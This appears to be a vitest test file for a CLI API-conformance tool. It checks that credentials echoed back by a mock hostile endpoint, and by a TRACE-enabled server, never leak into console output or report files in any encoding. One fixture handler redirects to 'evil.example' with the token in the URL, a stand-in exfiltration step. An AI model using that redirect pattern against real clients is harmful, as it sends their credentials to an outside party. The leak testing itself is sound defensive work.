import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { runCli, type CliResult } from '../support/cli.ts';
import { startReferenceServer } from '../../server/http-server.ts';
import { connectProxy, httpServer } from '../support/network-peers.ts';
import { projectA, seed, tokenArgs } from '../support/reference.ts';

/**
 * An endpoint that echoes every credential it can see or guess, in every encoding, in every place
 * a response has room for: headers, bodies, redirects, reason phrases, job ids, across the 64 KiB
 * cut of a recorded body and the 1 MiB read cap. Whatever the run writes must hold none of them.
 */
const CANARIES = {
  token: 'MIIcanaryTokenQx7Zr2Lm9Wp4Kd8Hs',
  ak: 'CANARYAKZX4Q9W2E7R5T',
  sk: 'canarySecretKeyVb3Nm8Qw1Er6Ty0Ui',
  otherToken: 'MIIcanaryOtherTokenJh5Gf3Dl7Ks2',
  otherAk: 'CANARYOTHERAKP3L8M6N',
  otherSk: 'canaryOtherSecretKeyZa9Xc4Vb7Nm',
  endpointUser: 'canaryEndpointUser',
  endpointPassword: 'canaryEndpointPassw0rd',
  proxyUser: 'canaryProxyUser',
  proxyPassword: 'canaryProxyPassw0rd',
} as const;

const PROJECT = 'a1b2c3d4e5f60718293a4b5c6d7e8f90';
const OTHER_PROJECT = 'f0e9d8c7b6a5049382716051a2b3c4d5';

/** Every way the endpoint spells a value back. */
function encodings(value: string): string[] {
  return [
    value,
    value.toLowerCase(),
    value.toUpperCase(),
    encodeURIComponent(`=${value}/`),
    [...Buffer.from(value)].map((b) => `%${b.toString(16)}`).join(''),
    Buffer.from(value).toString('base64'),
    Buffer.from(`x${value}`).toString('base64'),
    Buffer.from(`xy${value}`).toString('base64url'),
    JSON.stringify(value).slice(1, -1),
    [...value].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  ];
}

/** What the endpoint sent back to a run: what it saw on the wire, and the run's secrets it was told of (a leak elsewhere). */
function echoed(req: IncomingMessage, held: readonly string[]): string[] {
  const seen = [req.headers['x-auth-token'], req.headers.authorization, req.url].filter((v): v is string => typeof v === 'string');
  return [...seen, ...held, `${CANARIES.endpointUser}:${CANARIES.endpointPassword}`, `${CANARIES.proxyUser}:${CANARIES.proxyPassword}`].flatMap(encodings);
}

/** `held`: the secrets of the run this endpoint serves, first the primary credential's, then the other's. */
const answer =
  (held: readonly string[]) =>
  (req: IncomingMessage, res: ServerResponse): void => {
    const [first = '', second = '', third = ''] = held;
    const echo = echoed(req, held);
    const path = req.url ?? '';
    if (req.method === 'GET' && /\/failure-jobs(\?|$)/.test(path)) {
      // Job ids that are credentials: the list is where a hostile endpoint puts them in front of us.
      const ids = [first, `job-${second}`, '0f1e2d3c4b5a69788796a5b4c3d2e1f0', '1a2b3c4d5e6f708192a3b4c5d6e7f809'];
      res.writeHead(200, { 'content-type': 'application/json', 'x-echo': third });
      return void res.end(JSON.stringify({ failure_jobs: ids.map((job_id) => ({ job_id, status: 'failed', echo })), count: ids.length }));
    }
    const headers = {
      'content-type': 'application/json',
      'x-echo-token': String(req.headers['x-auth-token'] ?? first),
      'x-echo-auth': String(req.headers.authorization ?? second),
      'x-echo-b64': Buffer.from(third).toString('base64'),
    };
    const body = JSON.stringify({ error: { code: 'SDRS.0201', message: `echo ${echo.join(' ')}` } });
    if (req.method === 'PUT') {
      // A body over the read cap, a secret straddling the cap and the recorded-body cut.
      const pad = (n: number) => 'x'.repeat(n);
      const near64k = 64 * 1024 - 10;
      res.writeHead(400, headers);
      return void res.end(`${pad(near64k)}${first}${pad(1024 * 1024 - near64k - first.length - 10)}${second}${pad(4096)}`);
    }
    if (req.method === 'POST') {
      res.writeHead(302, `Found ${first}`, { ...headers, location: `https://evil.example/?token=${encodeURIComponent(first)}&b=${second}` });
      return void res.end(body);
    }
    res.writeHead(404, `Not Found ${third}`, headers);
    res.end(body);
  };

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [path];
  });
}

/** An oracle that shares no code with the scrubber: decode whatever looks encoded, then search for the secret's first 12 characters. */
function leaks(text: string, secret: string): boolean {
  const needle = secret.toLowerCase();
  const views = [text, text.replace(/\\u([0-9a-f]{4})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))];
  views.push(...views.map((v) => v.replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))));
  for (const run of text.match(/[A-Za-z0-9+/_-]{12,}/g) ?? []) {
    const standard = run.replace(/-/g, '+').replace(/_/g, '/');
    for (let shift = 0; shift < 4; shift += 1) views.push(Buffer.from(standard.slice(shift), 'base64').toString('latin1'));
  }
  // A secret cut in half by a body limit leaks its first part: that counts too.
  const half = needle.slice(0, 12);
  return views.some((v) => v.toLowerCase().includes(half));
}

describe('credentials echoed back by an endpoint', () => {
  const work = mkdtempSync(join(tmpdir(), 'sdrs-canary-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));
  const runs: CliResult[] = [];

  async function runAgainstEcho(name: string, identity: string[], held: string[]): Promise<CliResult> {
    const endpoint = await httpServer(answer(held));
    const proxy = await connectProxy();
    const url = new URL(endpoint.url);
    url.username = CANARIES.endpointUser;
    url.password = CANARIES.endpointPassword;
    const proxyUrl = new URL(proxy.url);
    proxyUrl.username = CANARIES.proxyUser;
    proxyUrl.password = CANARIES.proxyPassword;
    const dir = join(work, name);
    const result = await runCli(
      [
        'run',
        '--endpoint',
        url.toString(),
        '--proxy',
        proxyUrl.toString(),
        '--project-id',
        PROJECT,
        ...identity,
        '--other-project-id',
        OTHER_PROJECT,
        '--discover',
        '--allow-delete',
        '--scenario-control',
        '--fuzz-runs',
        '10',
        '--summary-dir',
        dir,
        '--results-dir',
        join(dir, 'allure-results'),
        '--junit',
        join(dir, 'junit.xml'),
      ],
      { cwd: work, timeoutMs: 120_000 },
    );
    runs.push(result);
    // The run reached the endpoint through the proxy, and judged what it got (a contract verdict, not a crash).
    expect(proxy.tunnels.length, result.stderr).toBeGreaterThan(0);
    expect(endpoint.requests.length).toBeGreaterThan(20);
    expect([0, 1, 4], result.stdout + result.stderr).toContain(result.code);
    return result;
  }

  test('a token run and an AK/SK run each finish with a verdict', async () => {
    await runAgainstEcho('token', ['--token', CANARIES.token, '--other-token', CANARIES.otherToken], [CANARIES.token, CANARIES.otherToken, CANARIES.token]);
    await runAgainstEcho(
      'aksk',
      ['--ak', CANARIES.ak, '--sk', CANARIES.sk, '--other-ak', CANARIES.otherAk, '--other-sk', CANARIES.otherSk],
      [CANARIES.ak, CANARIES.sk, CANARIES.otherSk, CANARIES.otherAk],
    );
    const report = await runCli(
      [
        'report',
        '--results-dir',
        join(work, 'token', 'allure-results'),
        '--report-dir',
        join(work, 'allure-report'),
        '--history',
        join(work, 'history', 'history.jsonl'),
      ],
      { cwd: work, timeoutMs: 120_000 },
    );
    runs.push(report);
    expect(report.code, report.stderr).toBe(0);
  }, 300_000);

  test.for(Object.entries(CANARIES))('%s: zero hits in the console and every artefact, in any encoding', ([name, canary]) => {
    expect(runs.length).toBe(3);
    const artefacts = filesUnder(work);
    expect(artefacts.some((f) => f.endsWith('conformance-summary.md'))).toBe(true);
    expect(artefacts.some((f) => f.endsWith('conformance-outcomes.json'))).toBe(true);
    expect(artefacts.some((f) => f.endsWith('junit.xml'))).toBe(true);
    expect(artefacts.some((f) => f.endsWith('history.jsonl'))).toBe(true);
    const texts = [
      ...runs.flatMap((r) => [
        ['stdout', r.stdout],
        ['stderr', r.stderr],
      ]),
      ...artefacts.map((f) => [f, readFileSync(f, 'latin1')]),
    ];
    const hits = texts.filter(([, text]) => leaks(text as string, canary)).map(([where]) => where);
    expect(hits, `${name} leaked`).toEqual([]);
  });

  test('the evidence is still there, masked', () => {
    const summary = readFileSync(join(work, 'token', 'conformance-summary.json'), 'utf8');
    expect(summary).toContain('failure-jobs/job-***');
    const outcomes = readFileSync(join(work, 'token', 'conformance-outcomes.json'), 'utf8');
    expect(outcomes).toContain('SDRS.0201');
  });
});

test('TRACE left enabled echoes the request, token and all (cross-site tracing): caught, and the token reaches no artefact', async () => {
  const work = mkdtempSync(join(tmpdir(), 'sdrs-trace-'));
  const server = await startReferenceServer({ seed, mutant: 'misconfig-trace-echo' });
  try {
    const run = await runCli([...tokenArgs(server.url), '--allow-delete', '--discover', '--summary-dir', work, '--results-dir', join(work, 'results')]);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/^FAIL deleteFailureJob\.wrong-method\.trace +200/m);
    const token = projectA.tokens[0] as string;
    const texts: Array<[string, string]> = [
      ['stdout', run.stdout],
      ['stderr', run.stderr],
      ...filesUnder(work).map((f): [string, string] => [f, readFileSync(f, 'latin1')]),
    ];
    expect(texts.filter(([, text]) => leaks(text, token)).map(([where]) => where)).toEqual([]);
  } finally {
    await server.close();
    rmSync(work, { recursive: true, force: true });
  }
});
